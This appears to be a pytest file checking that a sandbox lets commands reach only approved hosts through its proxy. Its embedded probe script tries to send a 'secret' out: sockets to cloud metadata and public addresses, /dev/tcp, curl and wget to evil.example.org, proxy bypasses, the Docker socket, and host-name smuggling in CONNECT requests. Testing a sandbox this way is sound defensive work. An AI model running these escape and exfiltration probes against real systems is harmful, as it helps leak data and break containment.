"""A command in a sandbox reaches the hosts that it may reach, through the proxy, and in no other way."""

import asyncio
import os
import socket
from contextlib import ExitStack
from pathlib import Path

import pytest

from kith.core.errors import TreeError
from kith.core.values import Ran
from kith.core.workspace import ExecLimits, ShellCommand
from kith.trees.local import open_tree
from website import website

# Every way out that a program may try; each one that works says so.
PROBES = r"""
import os, socket, subprocess, sys
tcp, udp, abstract, path = int(sys.argv[1]), int(sys.argv[2]), sys.argv[3], sys.argv[4]

def attempt(name, try_it):
    try:
        try_it()
        print("OUT", name)
    except (OSError, subprocess.SubprocessError):
        pass

def send(family, kind, place, *protocol):
    with socket.socket(family, kind, *protocol) as way:
        way.settimeout(2)
        way.connect(place)
        way.send(b"secret")

def run(*argv):
    subprocess.run(argv, check=True, timeout=60, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)

for address in ("127.0.0.1", "0.0.0.0", "169.254.169.254", "192.0.2.1", "8.8.8.8"):
    attempt(f"tcp {address}", lambda: send(socket.AF_INET, socket.SOCK_STREAM, (address, tcp)))
for address in ("::1", "::ffff:127.0.0.1", "2001:db8::1", "fe80::1"):
    attempt(f"tcp {address}", lambda: send(socket.AF_INET6, socket.SOCK_STREAM, (address, tcp)))
for address in ("8.8.8.8", "192.0.2.1"):
    attempt(f"udp {address}", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, (address, 53)))
with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as way:
    way.sendto(b"secret", ("127.0.0.1", udp))  # it is sent, but to nobody: the listener outside knows
attempt("raw", lambda: socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP))
attempt("ping", lambda: send(socket.AF_INET, socket.SOCK_DGRAM, ("8.8.8.8", 1), socket.IPPROTO_ICMP))
attempt("packet", lambda: socket.socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("vsock", lambda: send(socket.AF_VSOCK, socket.SOCK_STREAM, (2, 1024)))
attempt("abstract", lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, "\0" + abstract))
attempt("path", lambda: send(socket.AF_UNIX, socket.SOCK_STREAM, path))
attempt("name", lambda: socket.getaddrinfo("secret.example.org", 443))
attempt("getent", lambda: run("getent", "ahostsv4", "secret.example.org"))
attempt("dev tcp", lambda: run("bash", "-c", f"echo secret > /dev/tcp/127.0.0.1/{tcp}"))
attempt("dev udp", lambda: run("bash", "-c", "echo secret > /dev/udp/8.8.8.8/53"))
attempt("git", lambda: run("git", "ls-remote", "https://evil.example.org/x"))
attempt("git protocol", lambda: run("git", "ls-remote", "git://127.0.0.1/x"))
for name, argv in {
    "curl": ("curl", "-sSf", "-m", "3", f"http://evil.example.org:{tcp}/"),
    "curl past the proxy": ("curl", "-sSf", "-m", "3", "--noproxy", "*", f"http://127.0.0.1:{tcp}/"),
    "curl with socks": ("curl", "-sSf", "-m", "3", "-x", "socks5h://127.0.0.1:3128", "http://evil.example.org/"),
    "curl docker": ("curl", "-sSf", "-m", "3", "--unix-socket", "/run/docker.sock", "http://x/"),
    "nslookup": ("nslookup", "-timeout=1", "secret.example.org"),
    "dig": ("dig", "+time=1", "+tries=1", "+short", "secret.example.org", "@8.8.8.8"),
    "host": ("host", "-W", "1", "secret.example.org"),
    "ping": ("ping", "-c1", "-W1", "8.8.8.8"),
    "ssh": ("ssh", "-o", "ConnectTimeout=1", "-o", "BatchMode=yes", "evil.example.org", "true"),
    "wget": ("wget", "-q", "-T1", "-t1", "-O-", "http://evil.example.org/"),
}.items():
    attempt(name, lambda: run(*argv))
for name in ("evil.example.org#allowed.example.org", "allowed.example.org@evil.example.org",
             "allowed.example.org.evil.example.org", "allowed.example.org\0.evil.example.org"):
    def connect():
        with socket.create_connection(("127.0.0.1", 3128), 3) as way:
            way.sendall(f"CONNECT {name}:443 HTTP/1.1\r\n\r\n".encode())
            if not way.recv(100).startswith((b"HTTP/1.1 403", b"HTTP/1.1 400")):
                return
        raise OSError
    attempt(f"connect {name!r}", connect)
print("tried")
"""


def run(folder: Path, line: str, *hosts: str, own: tuple[str, ...] = ()) -> Ran:
    """Run a line in a trial of the tree."""

    async def inside() -> Ran:
        root = folder / "tree"
        root.mkdir(exist_ok=True)
        (root / "probes.py").write_text(PROBES)
        tree = open_tree(root, folder / "state", folder / "cache", hosts=own)
        async with tree.trial() as trial:
            return await trial.exec(ShellCommand(line, hosts=hosts), ExecLimits(seconds=60))

    return asyncio.run(inside())


@pytest.mark.slow
@pytest.mark.parametrize("hosts", [(), ("allowed.example.org",)])
def test_there_is_no_other_way_out(tmp_path: Path, sandbox: None, hosts: tuple[str, ...]) -> None:
    abstract, path = f"kith-test-{os.getpid()}", tmp_path / "socket"
    with ExitStack() as stack:
        tcp = stack.enter_context(socket.create_server(("127.0.0.1", 0)))
        udp = stack.enter_context(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
        unix = [stack.enter_context(socket.socket(socket.AF_UNIX)) for _ in range(2)]
        udp.bind(("127.0.0.1", 0))
        for each, place in zip(unix, (f"\0{abstract}", str(path)), strict=True):
            each.bind(place)
            each.listen()
        ports = f"{tcp.getsockname()[1]} {udp.getsockname()[1]}"
        ran = run(tmp_path, f"python3 probes.py {ports} {abstract} {path}", *hosts)
        assert (ran.code, ran.output) == (0, "tried\n")
        for listener in (tcp, udp, *unix):
            listener.setblocking(False)
            with pytest.raises(BlockingIOError):
                listener.recv(1) if listener is udp else listener.accept()
        assert all(each.refused and not each.sent for each in ran.reached) and bool(ran.reached) is bool(
            hosts
        )


def test_a_host_that_was_asked_for_is_reached_and_counted(tmp_path: Path, sandbox: None) -> None:
    with website() as port:
        place = f"127.0.0.1:{port}"
        ran = run(tmp_path, f"curl -sS http://{place}/; curl -sS http://127.0.0.2:{port}/", place)
        assert ran.output == f"here\nkith: 127.0.0.2:{port}: not allowed\n"
        reached, refused = ran.reached
        assert reached.place == place and reached.sent > 0 and reached.received > len("here\n")
        assert (refused.place, refused.refused) == (f"127.0.0.2:{port}", "not allowed")


def test_the_persons_own_hosts_need_no_asking(tmp_path: Path, sandbox: None) -> None:
    with website() as port:
        own = (f"localhost:{port}",)
        assert run(tmp_path, f"curl -sS http://localhost:{port}/", own=own).output == "here\n"


def test_an_empty_list_is_no_network_at_all(tmp_path: Path, sandbox: None) -> None:
    ran = run(tmp_path, "env | grep -ci _proxy; cat /proc/net/dev | tail -n +3 | cut -d: -f1; exit 3")
    assert (ran.code, ran.output.split(), ran.reached) == (3, ["0", "lo"], ())


def test_a_commands_own_servers_need_no_proxy(tmp_path: Path, sandbox: None) -> None:
    line = "python3 -m http.server 8000 >/dev/null 2>&1 & for _ in $(seq 100); do"
    line += " curl -sS localhost:8000/probes.py 2>/dev/null | tail -1 | grep . && break; sleep 0.05; done"
    ran = run(tmp_path, line, "example.org")
    assert ran.output == 'print("tried")\n' and ran.reached == ()


def test_what_is_no_host_is_refused_before_anything_runs(tmp_path: Path, sandbox: None) -> None:
    with pytest.raises(TreeError, match=r"'http://a\.org' is no host; write a name"):
        run(tmp_path, "true", "http://a.org")
